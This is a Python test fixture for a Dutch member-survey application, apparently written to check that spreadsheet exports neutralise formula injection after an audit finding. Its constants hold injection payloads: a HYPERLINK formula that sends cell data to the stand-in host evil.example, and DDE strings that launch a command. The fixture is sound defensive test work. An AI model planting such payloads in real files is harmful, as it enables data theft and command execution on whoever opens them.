"""Formula-like text for the export tests (issue 10, finding 6): a questionnaire
whose labels, and answers whose open text, a spreadsheet would run as formulas."""

from __future__ import annotations

from ledenpanel.analysis.data import Responses
from ledenpanel.kernel.questionnaire.schema import (
    Option,
    Question,
    Questionnaire,
    QuestionType,
    Section,
    validate,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2;"Klik voor de uitslag")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
ANSWERS = [HYPERLINK, DDE, AT_SUM, "\t=1+1", "+31 iets", "Gewoon een mening", "'s avonds beter"]
NUMBERS = [-12.5, -3.0, 0.0, 7.0, -0.25, 4.0, 1.5]
BANDS = ["=bad", "-", "18-34", "35-64", "65+", "18-34", "35-64"]
TITLE = "=1+1 Ledenpeiling"


def injection_questionnaire() -> Questionnaire:
    questions = [
        Question(
            name="kanaal",
            type=QuestionType.SINGLE_CHOICE,
            label=AT_SUM,
            options=[Option("krant", HYPERLINK), Option("web", "Website")],
        ),
        Question(name="saldo", type=QuestionType.NUMBER, label=DDE, minimum=-100, maximum=100),
        Question(name="mening", type=QuestionType.LONG_TEXT, label=HYPERLINK, hint=DDE),
    ]
    questionnaire = Questionnaire(
        title=TITLE, sections=[Section(name="algemeen", title=DDE, questions=questions)]
    )
    validate(questionnaire)
    return questionnaire


def injection_responses() -> Responses:
    return Responses(
        answers={
            "kanaal": ["krant", "web", "krant", "web", "krant", "web", None],
            "saldo": list(NUMBERS),
            "mening": list(ANSWERS),
        },
        background={"leeftijd": list(BANDS)},
        is_open=None,
    )
